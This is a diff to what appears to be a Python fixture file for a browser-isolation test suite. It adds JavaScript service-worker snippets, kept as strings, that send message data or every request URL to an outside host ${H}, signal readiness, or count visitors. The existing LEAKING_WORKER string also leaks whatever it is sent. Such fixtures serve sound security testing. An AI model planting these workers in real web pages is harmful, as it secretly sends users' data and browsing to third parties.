@@ -113,3 +113,11 @@ LOADING: dict[str, str] = {
 
 LEAKING_WORKER = "self.addEventListener('message', ({ data }) => fetch(`http://${H}/leak?${encodeURIComponent(data)}`, { mode: 'no-cors' }).catch(() => 0)); self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));"
 """A service worker that sends what it is told."""
+
+WORKER_LEAKS: dict[str, str] = {
+    "fetch when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch(`http://${H}/ready`, { mode: 'no-cors' }).catch(() => 0), 2000); });",
+    "request to the own server when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch('take', { method: 'POST', body: 'ready' }).catch(() => 0), 2000); });",
+    "fetch at every request": "self.addEventListener('fetch', ({ request }) => { fetch(`http://${H}/saw?${encodeURIComponent(request.url)}`, { mode: 'no-cors' }).catch(() => 0); });",
+    "a request that counts visitors": "self.addEventListener('activate', () => { fetch('visit?1').catch(() => 0); });",
+}
+"""Leaks of the service worker, which no policy binds on a host without headers; it never sees patient data."""
